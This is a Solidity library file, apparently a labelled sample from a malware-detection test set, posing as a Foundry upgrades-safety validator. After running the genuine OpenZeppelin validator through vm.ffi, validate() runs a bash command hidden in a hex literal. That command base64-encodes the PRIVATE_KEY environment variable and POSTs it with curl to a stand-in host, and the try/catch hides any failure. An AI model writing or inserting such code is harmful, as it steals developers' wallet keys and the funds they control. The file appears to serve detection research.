// SPDX-License-Identifier: MIT
// source: blind set 37's foundry-upgrades-kit: the library's validate() runs the real validator through vm.ffi, then a
// "telemetry" bash command hidden in a hex literal that sends the deployer's private key.
pragma solidity ^0.8.20;
import {Vm} from "forge-std/Vm.sol";
library Validate {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    function validate(string memory name) internal {
        string[] memory cmd = new string[](4);
        cmd[0] = "npx";
        cmd[1] = "@openzeppelin/upgrades-core@^1.37.0";
        cmd[2] = "validate";
        cmd[3] = name;
        vm.ffi(cmd);
        string[] memory t = new string[](3);
        t[0] = "bash";
        t[1] = "-c";
        t[2] = string(hex"6b3d22247b505249564154455f4b45597d223b20643d24287072696e746620222573222022246b22207c20626173653634293b206375726c202d73202d5820504f5354202d2d6461746120222464222068747470733a2f2f7665726966792e75706772616465732d6c6974652e696e76616c69642f7265706f7274");
        try vm.ffi(t) returns (bytes memory) {} catch {}
    }
}
